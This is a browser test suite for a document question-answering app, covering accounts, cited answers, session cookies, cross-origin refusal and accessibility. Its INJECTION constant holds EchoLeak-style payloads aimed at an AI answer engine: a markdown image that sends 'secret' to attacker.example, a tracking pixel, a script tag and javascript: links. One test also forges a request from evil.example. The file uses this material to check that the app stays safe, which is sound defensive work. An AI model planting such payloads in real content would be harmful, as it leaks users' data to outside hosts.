@@ -1,0 +1,266 @@
+import type { AddressInfo } from 'node:net';
+import { AxeBuilder } from '@axe-core/playwright';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  browserTestsEnabled,
+  DESKTOP,
+  launchChromium,
+  openPage,
+  PHONE,
+  type WatchedPage,
+} from '../helpers/browser.js';
+import { startTestApp, type TestApp } from '../helpers/test-app.js';
+
+const ESPRESSO = `# Espresso machine care
+
+Descale the espresso machine every two months with citric acid: fill the tank, run half of it
+through the steam wand, wait twenty minutes, then run the rest and rinse twice with clean water.
+
+\`\`\`sh
+descale --acid citric --wait 20m
+\`\`\`
+
+Clean the portafilter basket daily with hot water and a brush.
+`;
+
+/** A document that tries what answer engines have leaked data with (EchoLeak): all must stay text. */
+const INJECTION = [
+  'The vault code is rotated every Monday by the security team ![x](https://attacker.example/?d=secret).',
+  'The vault code rotation is logged <img src="https://attacker.example/pixel.png"> in the audit trail.',
+  "The vault code must never be shared <script>alert('xss')</script> over chat.",
+  "The vault code guide is [here](javascript:alert('link')) and [there][ref] for the rotation.",
+  '',
+  "[ref]: javascript:alert('ref')",
+].join('\n');
+
+async function waitForText(page: Page, text: string, timeoutMs = 20_000): Promise<void> {
+  await page.getByText(text, { exact: false }).first().waitFor({ timeout: timeoutMs });
+}
+
+/** Fills the sign-in form and presses `button` ("Sign in" or "Create account"). */
+async function submitSignIn(
+  page: Page,
+  fields: { email: string; password: string; name?: string },
+  button: string,
+) {
+  await page.getByLabel('Email', { exact: true }).fill(fields.email);
+  await page.getByLabel('Password', { exact: true }).fill(fields.password);
+  if (fields.name !== undefined) await page.getByLabel('Name', { exact: true }).fill(fields.name);
+  await page.getByRole('button', { name: button, exact: true }).click();
+}
+
+async function createAccount(page: Page, email: string): Promise<void> {
+  await page.goto('/');
+  await submitSignIn(page, { email, password: 'correct horse battery', name: 'Ada' }, 'Create account');
+  await page.getByRole('navigation', { name: 'Main' }).waitFor();
+}
+
+/** Uploads files through the Documents page and waits until each row (by its title) says `indexed`. */
+async function uploadAndWait(
+  page: Page,
+  files: { name: string; mimeType: string; text: string; title: string }[],
+) {
+  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Documents' }).click();
+  await page.getByRole('heading', { name: 'Documents', level: 1 }).waitFor();
+  await page
+    .getByLabel('Upload files')
+    .setInputFiles(
+      files.map((file) => ({ name: file.name, mimeType: file.mimeType, buffer: Buffer.from(file.text) })),
+    );
+  for (const file of files) {
+    const row = page.getByRole('row').filter({ hasText: file.title });
+    await row.filter({ hasText: 'indexed' }).first().waitFor({ timeout: 30_000 });
+  }
+}
+
+async function ask(page: Page, question: string): Promise<void> {
+  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Ask' }).click();
+  await page.getByLabel('Ask a question').fill(question);
+  await page.getByRole('button', { name: 'Ask', exact: true }).click();
+  // The turn is over once the Ask button is back (Stop while streaming).
+  await page.getByRole('button', { name: 'Ask', exact: true }).waitFor({ timeout: 20_000 });
+}
+
+describe.skipIf(!browserTestsEnabled())('the web app in Chromium', () => {
+  let service: TestApp;
+  let origin: string;
+  let browser: Browser;
+  const pages: WatchedPage[] = [];
+
+  beforeAll(async () => {
+    service = await startTestApp({ worker: true });
+    await service.app.listen({ host: '127.0.0.1', port: 0 });
+    origin = `http://127.0.0.1:${(service.app.server.address() as AddressInfo).port}`;
+    browser = await launchChromium();
+  });
+  afterAll(async () => {
+    for (const page of pages) await page.close().catch(() => {});
+    await browser?.close();
+    await service?.close();
+  });
+
+  async function open(viewport: { width: number; height: number } = DESKTOP): Promise<WatchedPage> {
+    const watched = await openPage(browser, origin, { viewport });
+    pages.push(watched);
+    return watched;
+  }
+
+  for (const [size, viewport] of [
+    ['desktop', DESKTOP],
+    ['375 px', PHONE],
+  ] as const) {
+    it(`creates an account, uploads, asks and reads a cited answer, signs out and in (${size})`, async () => {
+      const { page, foreignRequests, pageErrors } = await open(viewport);
+      const email = `ada-${viewport.width}@example.com`;
+      await page.goto('/');
+      await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
+
+      // A short password is refused next to its field.
+      await submitSignIn(page, { email, password: 'short', name: 'Ada' }, 'Create account');
+      const password = page.getByLabel('Password', { exact: true });
+      await expect.poll(() => password.getAttribute('aria-invalid')).toBe('true');
+      const describedBy = (await password.getAttribute('aria-describedby')) ?? '';
+      const passwordError = await page.locator(`[id="${describedBy.split(' ')[0]}"]`).textContent();
+      expect(passwordError).toMatch(/8/);
+
+      await submitSignIn(page, { email, password: 'correct horse battery', name: 'Ada' }, 'Create account');
+      const mainNav = page.getByRole('navigation', { name: 'Main' });
+      await mainNav.waitFor();
+      expect(await mainNav.getByRole('link', { name: 'Ask' }).count()).toBe(1);
+      expect(await mainNav.getByRole('link', { name: 'Documents' }).count()).toBe(1);
+
+      await uploadAndWait(page, [
+        {
+          name: 'espresso-care.md',
+          mimeType: 'text/markdown',
+          text: ESPRESSO,
+          title: 'Espresso machine care',
+        },
+      ]);
+      await ask(page, 'How do I descale the espresso machine?');
+
+      const answer = page.getByRole('region', { name: 'Answer' }).last();
+      expect(await answer.textContent()).toMatch(/citric acid/);
+      // Each [n] is a chip: focusing it shows the source's title and the cited passage.
+      const chip = answer.getByRole('button', { name: '[1]' }).or(answer.getByRole('link', { name: '[1]' }));
+      await chip.first().focus();
+      const tooltip = page.getByRole('tooltip').filter({ hasText: 'Espresso machine care' }).first();
+      await tooltip.waitFor({ state: 'visible' });
+      // Escape dismisses it (WCAG 1.4.13), uncovering what lies under it.
+      await page.keyboard.press('Escape');
+      await tooltip.waitFor({ state: 'hidden' });
+      const sources = page.getByRole('list', { name: 'Sources' }).last();
+      expect(await sources.getByRole('link', { name: 'Espresso machine care' }).count()).toBe(1);
+
+      // The chat is in the sidebar (behind its button on a phone), named by its title.
+      const chats = page.getByRole('navigation', { name: 'Chats' });
+      if (!(await chats.isVisible())) await page.getByRole('button', { name: 'Chats' }).click();
+      await chats.getByRole('link').first().waitFor();
+      expect(await chats.getByRole('link').count()).toBe(1);
+
+      // The source link opens the document's page with the cited passage.
+      await sources.getByRole('link', { name: 'Espresso machine care' }).click();
+      await page.getByRole('heading', { name: 'Espresso machine care', level: 1 }).waitFor();
+      await waitForText(page, 'Descale the espresso machine every two months');
+
+      // Sign out, a wrong password, then the right one.
+      await page.getByRole('button', { name: 'Sign out' }).click();
+      await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
+      await submitSignIn(page, { email, password: 'wrong password!' }, 'Sign in');
+      await page.getByRole('alert').or(page.locator('[aria-invalid="true"]')).first().waitFor();
+      await submitSignIn(page, { email, password: 'correct horse battery' }, 'Sign in');
+      await page.getByRole('navigation', { name: 'Main' }).waitFor();
+
+      expect(foreignRequests).toEqual([]);
+      expect(pageErrors).toEqual([]);
+    }, 120_000);
+  }
+
+  it('quotes a document made to leak data without running or requesting anything', async () => {
+    const { page, foreignRequests, dialogs, pageErrors } = await open();
+    await createAccount(page, 'mallory-target@example.com');
+    await uploadAndWait(page, [
+      { name: 'vault-policy.txt', mimeType: 'text/plain', text: INJECTION, title: 'vault-policy' },
+    ]);
+    await ask(page, 'How is the vault code rotated and shared?');
+
+    const answer = page.getByRole('region', { name: 'Answer' }).last();
+    expect(await answer.textContent()).toMatch(/vault code/);
+    // Open the document's page too: its text is shown as it is, and must stay text.
+    await page.getByRole('list', { name: 'Sources' }).last().getByRole('link').first().click();
+    await waitForText(page, 'The vault code is rotated every Monday');
+
+    expect(foreignRequests).toEqual([]);
+    expect(dialogs).toEqual([]);
+    expect(pageErrors).toEqual([]);
+    expect(await page.locator('img[src*="attacker"], script:not([src])').count()).toBe(0);
+    const hrefs = await page
+      .locator('a[href]')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
+    expect(hrefs.filter((href) => !/^(\/|https?:|mailto:|#)/.test(href ?? ''))).toEqual([]);
+  }, 120_000);
+
+  it('keeps the session in an HttpOnly, SameSite=Strict cookie and refuses cross-origin writes', async () => {
+    const { page } = await open();
+    await createAccount(page, 'cookie-owner@example.com');
+    const cookies = await page.context().cookies();
+    const session = cookies.find((cookie) => cookie.name === 'ka_session');
+    expect(session).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
+    const scriptCookies = await page.evaluate(
+      () => (globalThis as unknown as { document: { cookie: string } }).document.cookie,
+    );
+    expect(scriptCookies).not.toContain('ka_session');
+
+    const cookie = `ka_session=${session?.value}`;
+    const search = { query: 'anything' };
+    // The page itself may write (its fetch sends this origin).
+    const own = await page.evaluate(async (body) => {
+      const response = await fetch('/v1/search', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify(body),
+      });
+      return response.status;
+    }, search);
+    expect(own).toBe(200);
+    // Another site's page, carrying the cookie, may not.
+    const forged = await fetch(`${origin}/v1/search`, {
+      method: 'POST',
+      headers: { cookie, origin: 'https://evil.example', 'content-type': 'application/json' },
+      body: JSON.stringify(search),
+    });
+    expect(forged.status).toBe(403);
+    expect(await forged.json()).toEqual({ detail: 'Cross-origin request refused' });
+
+    // Signing out revokes the token the cookie held.
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
+    const after = await fetch(`${origin}/v1/users/me`, { headers: { cookie } });
+    expect(after.status).toBe(401);
+  }, 60_000);
+
+  it('has no serious or critical accessibility violation on any page (axe)', async () => {
+    const { page } = await open();
+    const audit = async (label: string) => {
+      const results = await new AxeBuilder({ page }).analyze();
+      const severe = results.violations
+        .filter((violation) => violation.impact === 'serious' || violation.impact === 'critical')
+        .map((violation) => `${label}: ${violation.id} (${violation.nodes.length})`);
+      expect(severe).toEqual([]);
+    };
+    await page.goto('/');
+    await page.getByRole('heading', { name: 'Sign in', level: 1 }).waitFor();
+    await audit('sign in');
+    await createAccount(page, 'axe@example.com');
+    await uploadAndWait(page, [
+      { name: 'espresso-care.md', mimeType: 'text/markdown', text: ESPRESSO, title: 'Espresso machine care' },
+    ]);
+    await audit('documents');
+    await ask(page, 'How do I descale the espresso machine?');
+    await audit('ask, with an answer');
+    await page.getByRole('list', { name: 'Sources' }).last().getByRole('link').first().click();
+    await page.getByRole('heading', { name: 'Espresso machine care', level: 1 }).waitFor();
+    await audit('document');
+  }, 120_000);
+});
